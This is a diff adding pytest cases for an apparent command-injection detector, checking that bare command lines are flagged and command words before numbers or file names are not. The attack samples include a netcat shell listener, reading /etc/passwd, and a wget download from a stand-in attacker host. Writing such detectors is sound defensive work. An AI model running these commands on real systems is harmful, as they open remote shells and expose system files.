@@ -209,3 +209,44 @@ def test_interpreter_and_path_look_alikes_stay_benign(value: str) -> None:
 )
 def test_assignments_bare_separators_and_words_stay_benign(value: str) -> None:
     assert verdict(value) is None
+
+
+# -- 7. A value that starts with a command word, with no separator: one argument must be a shell's.
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "cat /etc/passwd",
+        "ls -l /",
+        "uname -a",
+        "nc -lvvp 4444 -e /bin/sh",  # a port number beside options and a path
+        "which python",  # a command as the argument
+        "wget https://attacker.example/x.sh",
+        "dir C:\\",
+        "sleep 5",  # time and lookup probes are run bare with a number or a host
+        "ping 10.0.0.1",
+    ],
+)
+def test_a_bare_command_line_is_an_attack(value: str) -> None:
+    assert verdict(value) is AttackKind.CMDI
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "top 10",
+        "call 911",
+        "call 1-800-555-0199",
+        "set 3",
+        "last 5",
+        "start 2024-01-01",
+        "make 1.5",
+        "id card.pdf",  # file names with a space
+        "cat pictures.zip",
+        "w czasie.avi",
+        "export 2023.csv",
+    ],
+)
+def test_a_command_word_before_numbers_or_file_names_is_prose(value: str) -> None:
+    assert verdict(value) is None
